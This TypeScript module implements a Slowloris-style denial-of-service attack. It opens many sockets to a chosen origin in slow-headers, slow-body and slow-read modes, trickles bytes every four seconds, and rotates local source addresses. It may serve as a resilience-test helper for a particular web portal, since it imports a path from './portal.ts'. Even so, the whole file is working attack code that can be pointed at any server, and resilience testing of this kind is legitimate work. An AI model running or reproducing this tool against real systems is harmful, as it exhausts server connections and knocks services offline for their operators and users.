import { connect, type Socket } from 'node:net';
import { bigPath } from './portal.ts';

/** The ways to keep a server waiting. */
export const slowKinds = ['headers', 'body', 'read'] as const;

type SlowKind = (typeof slowKinds)[number];

const beginnings: Readonly<Record<SlowKind, string>> = {
  headers: 'GET /public/home HTTP/1.1\r\nHost: x\r\n',
  body: 'POST /identity/forgot HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{',
  // More than the buffers on the way hold, so that the server must keep the rest.
  read: `GET ${bigPath} HTTP/1.1\r\nHost: x\r\n\r\n`,
};

const drops: Readonly<Record<SlowKind, string | undefined>> = {
  headers: 'X-Slow: 1\r\n',
  body: ' ',
  read: undefined,
};

interface Attack {
  readonly origin: string;
  /** Connections of each kind. */
  readonly connectionsEach: number;
  /** Addresses on this machine from which they come in turn. */
  readonly addresses: readonly string[];
}

/** Opens slow connections of every kind; each sends a little more every few seconds. */
export async function attackSlowly({ origin, connectionsEach, addresses }: Attack) {
  const { hostname, port } = new URL(origin);
  const sockets = new Map<SlowKind, Socket[]>(slowKinds.map((kind) => [kind, []]));
  const open = (kind: SlowKind, number: number) =>
    new Promise<void>((resolve) => {
      const localAddress = addresses[number % addresses.length];
      const socket = connect({
        host: hostname,
        port: Number(port),
        ...(localAddress && { localAddress }),
      });
      socket.on('error', () => resolve());
      socket.on('connect', () => {
        socket.write(beginnings[kind]);
        if (kind === 'read') socket.pause();
        else socket.resume();
        resolve();
      });
      sockets.get(kind)?.push(socket);
    });
  for (const kind of slowKinds)
    await Promise.all(Array.from({ length: connectionsEach }, (_, number) => open(kind, number)));
  const timer = setInterval(() => {
    for (const [kind, socketsOfKind] of sockets)
      for (const socket of socketsOfKind)
        if (drops[kind] && socket.writable) socket.write(drops[kind]);
  }, 4000);
  return {
    sockets,
    stop: () => {
      clearInterval(timer);
      for (const socket of [...sockets.values()].flat()) socket.destroy();
    },
  };
}
